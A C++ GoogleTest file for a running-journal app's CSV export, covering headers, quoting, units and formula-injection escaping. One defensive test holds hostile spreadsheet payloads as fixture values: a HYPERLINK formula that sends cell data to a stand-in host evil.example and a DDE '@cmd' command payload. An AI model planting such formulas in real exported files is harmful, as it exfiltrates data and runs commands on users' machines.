#include <sstream>
#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "cairn/exchange/exchange.hpp"

#include "sample_journal.hpp"

namespace cairn::exchange {
namespace {

using ::testing::HasSubstr;

// The CSV's records split at CRLF (records here hold no quoted CRLF).
std::vector<std::string> records_of(const std::string& csv) {
  std::vector<std::string> records;
  std::size_t start = 0;
  while (start < csv.size()) {
    const auto end = csv.find("\r\n", start);
    if (end == std::string::npos) {
      records.push_back(csv.substr(start));
      break;
    }
    records.push_back(csv.substr(start, end - start));
    start = end + 2;
  }
  return records;
}

TEST(ExportRunsCsv, StartsWithAHeaderInTheChosenUnits) {
  const auto metric = records_of(export_runs_csv(sample::rich_journal(), UnitSystem::metric));
  EXPECT_EQ(metric.at(0),
            "id,start_local,zone,sport,distance_km,elapsed_s,moving_s,pace_per_km,"
            "elevation_gain_m,avg_heart_rate_bpm,max_heart_rate_bpm,title,route_name,notes,"
            "enjoyment,mood_before,mood_after,effort");
  const auto imperial = records_of(export_runs_csv(sample::rich_journal(), UnitSystem::imperial));
  EXPECT_THAT(imperial.at(0), HasSubstr(",distance_mi,"));
  EXPECT_THAT(imperial.at(0), HasSubstr(",pace_per_mi,"));
}

TEST(ExportRunsCsv, WritesOneRowPerRunOrderedByStart) {
  const auto records = records_of(export_runs_csv(sample::rich_journal(), UnitSystem::metric));
  ASSERT_EQ(records.size(), 4U);
  EXPECT_EQ(records[1].substr(0, 2), "3,");
  EXPECT_EQ(records[2].substr(0, 2), "1,");
  EXPECT_EQ(records[3].substr(0, 2), "2,");
}

TEST(ExportRunsCsv, QuotesANoteWithACommaAQuoteAndALineBreak) {
  const std::string csv = export_runs_csv(sample::rich_journal(), UnitSystem::metric);
  EXPECT_THAT(csv, HasSubstr(",\"Felt good, \"\"really\"\" good\nsecond line\","));
  EXPECT_THAT(csv, HasSubstr(",\"River, east side\","));
}

TEST(ExportRunsCsv, WritesEveryNumberOfARunWithItsEntryAnswers) {
  const std::string csv = export_runs_csv(sample::rich_journal(), UnitSystem::metric);
  EXPECT_THAT(csv, HasSubstr("\r\n1,2025-03-01 07:30,Europe/Berlin,road,10.000,3130.5,3060,5:06,"
                             "123.4,150,172,Morning loop,\"River, east side\",\"Felt good, "
                             "\"\"really\"\" good\nsecond line\",8,2,4,6\r\n"));
}

TEST(ExportRunsCsv, LeavesCellsEmptyForAbsentValues) {
  const auto records = records_of(export_runs_csv(sample::rich_journal(), UnitSystem::metric));
  EXPECT_EQ(records.back(), "2,2025-03-03 18:00,America/New_York,other,,,,,,,,,,,,,,");
  // Run 3 has an entry that answers only enjoyment.
  EXPECT_EQ(records.at(1),
            "3,2025-02-27 06:45,Europe/Berlin,treadmill,8.047,2400,,4:58,,,,,,,5,,,");
}

TEST(ExportRunsCsv, GivesDistanceAndPaceInMilesWhenAsked) {
  const auto records = records_of(export_runs_csv(sample::rich_journal(), UnitSystem::imperial));
  EXPECT_EQ(records.at(1),
            "3,2025-02-27 06:45,Europe/Berlin,treadmill,5.000,2400,,8:00,,,,,,,5,,,");
}

TEST(CsvField, PrefixesAQuoteToEveryCellASpreadsheetWouldEvaluate) {
  EXPECT_EQ(csv_field("=1+2"), "\"'=1+2\"");
  EXPECT_EQ(csv_field("+1+2"), "\"'+1+2\"");
  EXPECT_EQ(csv_field("-1+2"), "\"'-1+2\"");
  EXPECT_EQ(csv_field("@SUM(A1)"), "\"'@SUM(A1)\"");
  EXPECT_EQ(csv_field("\t=1"), "\"'\t=1\"");
  EXPECT_EQ(csv_field("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(csv_field("=\"a\",b"), "\"'=\"\"a\"\",b\"");
}

TEST(CsvField, LeavesNumbersAndOrdinaryTextAsTheyAre) {
  EXPECT_EQ(csv_field("-12.5"), "-12.5");
  EXPECT_EQ(csv_field("3130.5"), "3130.5");
  EXPECT_EQ(csv_field("Morning loop = fun"), "Morning loop = fun");
  EXPECT_EQ(csv_field(""), "");
  EXPECT_EQ(csv_field("-"), "\"'-\"");
  EXPECT_EQ(csv_field("a,b"), "\"a,b\"");
}

TEST(ExportRunsCsv, WritesAFormulaInATitleOrNoteAsText) {
  JournalData data = sample::rich_journal();
  data.runs.at(0).title = R"x(=HYPERLINK("http://evil.example/?"&A1,"Click for your stats"))x";
  data.runs.at(0).route_name = "@cmd|'/c calc'!A0";
  data.runs.at(0).notes = "+1+1";
  const std::string csv = export_runs_csv(data, UnitSystem::metric);
  EXPECT_THAT(csv, HasSubstr(R"x(,"'=HYPERLINK(""http://evil.example/?""&A1,""Click for your )x"
                             R"x(stats"")","'@cmd|'/c calc'!A0","'+1+1",)x"));
  for (const auto& record : records_of(csv)) {
    EXPECT_THAT(record, ::testing::Not(HasSubstr(",=")));
    EXPECT_THAT(record, ::testing::Not(HasSubstr(",\"=")));
  }
}

TEST(ExportRunsCsv, WritesOnlyTheHeaderWhenThereAreNoRuns) {
  EXPECT_EQ(records_of(export_runs_csv(JournalData{}, UnitSystem::metric)).size(), 1U);
}

}  // namespace
}  // namespace cairn::exchange
